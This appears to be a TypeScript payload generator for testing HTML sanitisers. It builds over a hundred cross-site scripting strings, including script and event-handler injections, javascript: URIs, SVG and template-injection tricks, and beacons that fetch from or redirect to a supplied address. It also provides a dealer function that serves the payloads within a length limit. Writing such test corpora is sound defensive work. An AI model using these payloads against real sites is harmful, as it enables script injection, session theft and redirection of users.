/** Ways to run or to call out, each in the places of HTML where a text may end up. Over a hundred. */
export function corpus(address: string): string[] {
  const acts = [`fetch('${address}/ran')`, `window.ran=1`, `location='${address}/gone'`];
  const shapes = (act: string) => [
    `<script>${act}</script>`,
    `</script><script>${act}</script>`,
    `"><script>${act}</script>`,
    `'><svg onload="${act}">`,
    `"><img src=x onerror="${act}">`,
    `<img src="${address}/img" onerror=${act}>`,
    `<svg/onload=${act}>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
    `<svg><script>${act}</script></svg>`,
    `<math><mtext><img src=x onerror="${act}"></mtext></math>`,
    `<iframe src="javascript:${act}"></iframe>`,
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
    `<object data="javascript:${act}"></object>`,
    `<embed src="${address}/embed">`,
    `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
    `javascript:${act}`,
    `JaVaScRiPt:${act}`,
    `data:text/html,<script>${act}</script>`,
    `" onmouseover="${act}" autofocus onfocus="${act}" x="`,
    `' onfocus='${act}' autofocus x='`,
    `\` onerror=${act} \``,
    `<details open ontoggle="${act}">`,
    `<video><source onerror="${act}"></video>`,
    `<body onload="${act}">`,
    `<input autofocus onfocus="${act}">`,
    `<marquee onstart="${act}">`,
    `<link rel=stylesheet href="${address}/css">`,
    `<style>@import '${address}/import';*{background:url(${address}/bg)}</style>`,
    `<meta http-equiv=refresh content="0;url=${address}/meta">`,
    `<base href="${address}/">`,
    `<form action="${address}/form"><button autofocus>`,
    `{{constructor.constructor("${act}")()}}`,
    `\${${act}}`,
    `<template><script>${act}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `\u202e<script>${act}</script>`,
  ];
  return acts.flatMap(shapes);
}

/** Deals one after the other, of those that are short enough; of what is shorter than all of them, the beginning of one. */
export function createDealer(payloads: readonly string[]): (most: number) => string {
  let next = 0;
  return (most) => {
    for (let tried = 0; tried < payloads.length; tried++) {
      const payload = payloads[next++ % payloads.length] ?? '';
      if (payload.length <= most) return payload;
    }
    return (payloads[next++ % payloads.length] ?? '').slice(0, most);
  };
}
